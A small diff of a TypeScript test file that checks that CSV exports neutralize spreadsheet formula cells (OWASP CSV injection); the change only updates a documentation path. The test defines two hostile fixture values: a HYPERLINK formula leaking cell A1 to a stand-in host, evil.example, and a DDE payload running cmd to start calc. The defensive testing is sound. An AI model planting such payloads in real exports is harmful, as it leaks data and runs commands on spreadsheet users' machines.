@@ -9,7 +9,7 @@ import { cabinetMerchant, signedIn, type CabinetClient, type CabinetMerchant } f
  * Issue 27: every CSV export neutralizes a cell a spreadsheet would run as a formula (OWASP CSV
  * injection: a leading `=`, `+`, `-`, `@`, tab or CR gets a `'`): a payer's e-mail
  * `=HYPERLINK(...)`, a shop name, an order id. A plain decimal (a debit `-100.00`) stays a number
- * (docs/decisions.md "CSV cells neutralized (issue 27)").
+ * (docs/adr/0050-security-hardening.md).
  */
 const EVIL_EMAIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Refund")@x.io';
 const EVIL_SHOP = '@SUM(1+1)*cmd|\' /C calc\'!A0';
